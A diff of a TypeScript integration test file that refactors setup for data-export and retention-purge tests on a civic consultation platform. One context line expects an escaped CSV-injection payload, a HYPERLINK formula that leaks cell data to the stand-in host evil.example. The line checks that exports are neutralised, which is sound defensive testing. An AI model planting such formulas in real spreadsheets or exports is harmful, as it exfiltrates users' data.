@@ -1,4 +1,3 @@
-import { Role } from '@quorum/access';
 import { dataExportPath } from '@quorum/privacy';
 import { existsSync, mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
@@ -9,8 +8,8 @@ import { CAST, createBudget } from '../utils/budgets.factory';
 import { createConsultation, insertProposals } from '../utils/consultations.factory';
 import { createUser, createUsers, FACTORY_PASSWORD, TestUser } from '../utils/users.factory';
 import { CAPITOLE, seedCommune } from '../utils/reports.factory';
-import { startTestApi, TestApi } from '../utils/test-api';
-import { startTestWorker, TestWorker } from '../utils/test-worker';
+import { TestApi } from '../utils/test-api';
+import { WorkerTestBed } from '../utils/worker-test-bed';
 import { waitFor } from '../utils/wait-for';
 import { zipEntries } from '../utils/zip-entries';
 
@@ -22,30 +21,38 @@ const REPORT_CONTENT = `mutation($input: ReportContentInput!) { reportContent(in
 const SUBMIT_REPORT = `mutation($input: SubmitIssueReportInput!) { submitIssueReport(input: $input) { id } }`;
 
 describe('right of access (requestMyData) and retention', () => {
+  const bed = new WorkerTestBed();
   let api: TestApi;
-  let worker: TestWorker;
   let exportDir: string;
   let staff: TestUser;
   beforeAll(async () => {
     exportDir = mkdtempSync(join(tmpdir(), 'quorum-data-exports-'));
-    api = await startTestApi({
+    ({ api, staff } = await bed.startWithStaff({
       DATA_EXPORT_DIR: exportDir,
       DATA_EXPORT_TTL_HOURS: '2',
       UPLOADS_DIR: join(exportDir, 'uploads'),
       UNATTACHED_PHOTO_RETENTION_HOURS: '24',
-    });
-    worker = await startTestWorker(api.config);
-    staff = await createUser(api, { role: Role.STAFF });
+    }));
     await seedCommune(api);
   });
   afterAll(async () => {
-    await worker.close();
-    await api.close();
+    await bed.stop();
     rmSync(exportDir, { recursive: true, force: true });
   });
 
   const download = (path: string, token?: string) =>
     fetch(`${api.url}${path}`, { headers: token ? { authorization: `Bearer ${token}` } : {} });
+
+  /** The resident's latest archive, once the worker has built it. */
+  const archiveBuilt = (as: ReturnType<typeof api.gql.as>): Promise<{ status: string; downloadPath: string }> =>
+    waitFor(
+      async () => {
+        const latest: { status: string; downloadPath: string } = (await as.ok(LATEST)).myDataExport;
+        return latest.status === 'READY' ? latest : undefined;
+      },
+      20_000,
+      'archive built',
+    );
 
   /** Two residents who did the same things, each with words of their own to look for. */
   async function twoActiveResidents() {
@@ -81,14 +88,7 @@ describe('right of access (requestMyData) and retention', () => {
     expect(requestMyData).toMatchObject({ status: 'PENDING', downloadPath: null });
     expect((await as.ok(REQUEST)).requestMyData.id).toBe(requestMyData.id); // one at a time
 
-    const ready = await waitFor(
-      async () => {
-        const latest: { status: string; downloadPath: string } = (await as.ok(LATEST)).myDataExport;
-        return latest.status === 'READY' ? latest : undefined;
-      },
-      20_000,
-      'archive built',
-    );
+    const ready = await archiveBuilt(as);
     expect(ready.downloadPath).toBe(`/my-data/exports/${requestMyData.id}`);
     expect(existsSync(dataExportPath(exportDir, requestMyData.id))).toBe(true);
     expect((await api.gql.as(bertrand.token).ok(LATEST)).myDataExport).toBeNull();
@@ -142,7 +142,7 @@ describe('right of access (requestMyData) and retention', () => {
     expect((await as.ok(LATEST)).myDataExport).toMatchObject({ status: 'EXPIRED', downloadPath: null });
 
     // The retention job deletes the file.
-    await worker.app.get(JobQueue).enqueue(JobName.PURGE_EXPIRED_DATA, {}, { jobId: 'purge-exports-test' });
+    await bed.worker.app.get(JobQueue).enqueue(JobName.PURGE_EXPIRED_DATA, {}, { jobId: 'purge-exports-test' });
     await waitFor(
       async () => {
         const [row] = await api.db.query(`SELECT status FROM data_exports WHERE id = $1`, [requestMyData.id]);
@@ -174,14 +174,7 @@ describe('right of access (requestMyData) and retention', () => {
     await insertProposals(api, c.id, [resident.id], 1, { title: () => formula, body: () => '-2+3' });
     const as = api.gql.as(resident.token);
     await as.ok(REQUEST);
-    const ready = await waitFor(
-      async () => {
-        const latest: { status: string; downloadPath: string } = (await as.ok(LATEST)).myDataExport;
-        return latest.status === 'READY' ? latest : undefined;
-      },
-      20_000,
-      'archive built',
-    );
+    const ready = await archiveBuilt(as);
     const entries = zipEntries(Buffer.from(await (await download(ready.downloadPath, resident.token)).arrayBuffer()));
     const csv = entries.get('proposals/proposals.csv')!.toString('utf8');
     expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Voir"")"`);
@@ -227,7 +220,7 @@ describe('right of access (requestMyData) and retention', () => {
       [[closedLongAgo, openLongAgo]],
     );
 
-    await worker.app.get(JobQueue).enqueue(JobName.PURGE_EXPIRED_DATA, {}, { jobId: 'purge-contacts-test' });
+    await bed.worker.app.get(JobQueue).enqueue(JobName.PURGE_EXPIRED_DATA, {}, { jobId: 'purge-contacts-test' });
     const emailOf = async (id: string) =>
       (await api.db.query(`SELECT reporter_email FROM issue_reports WHERE id = $1`, [id]))[0].reporter_email;
     await waitFor(async () => ((await emailOf(closedLongAgo)) === null ? true : undefined), 20_000, 'contact purged');
@@ -256,7 +249,7 @@ describe('right of access (requestMyData) and retention', () => {
     const file = (id: string) => join(exportDir, 'uploads', 'reports', `${id}.png`);
     expect([abandoned, recent, attached].every((id) => existsSync(file(id)))).toBe(true);
 
-    await worker.app.get(JobQueue).enqueue(JobName.PURGE_EXPIRED_DATA, {}, { jobId: 'purge-photos-test' });
+    await bed.worker.app.get(JobQueue).enqueue(JobName.PURGE_EXPIRED_DATA, {}, { jobId: 'purge-photos-test' });
     await waitFor(async () => (existsSync(file(abandoned)) ? undefined : true), 20_000, 'abandoned photo deleted');
     const served = (id: string) => fetch(`${api.url}/reports/photos/${id}`).then((r) => r.status);
     expect(await served(abandoned)).toBe(404);
@@ -278,7 +271,7 @@ describe('right of access (requestMyData) and retention', () => {
     const expired = await insert('a'.repeat(64), '-1 minute');
     const live = await insert('b'.repeat(64), '1 hour');
 
-    await worker.app.get(JobQueue).enqueue(JobName.PURGE_EXPIRED_DATA, {}, { jobId: 'purge-sessions-test' });
+    await bed.worker.app.get(JobQueue).enqueue(JobName.PURGE_EXPIRED_DATA, {}, { jobId: 'purge-sessions-test' });
     const left = async () =>
       (await api.db.query(`SELECT id FROM sessions WHERE user_id = $1`, [resident.id])).map(
         (row: { id: string }) => row.id,
@@ -288,7 +281,7 @@ describe('right of access (requestMyData) and retention', () => {
   });
 
   it('schedules the retention job as a repeatable job when the worker boots', async () => {
-    const schedulers = await worker.app.get(JobQueue).queue('privacy').getJobSchedulers();
+    const schedulers = await bed.worker.app.get(JobQueue).queue('privacy').getJobSchedulers();
     expect(schedulers.map((s) => s.key ?? s.id)).toContain('privacy-purge-expired-data');
   });
 });
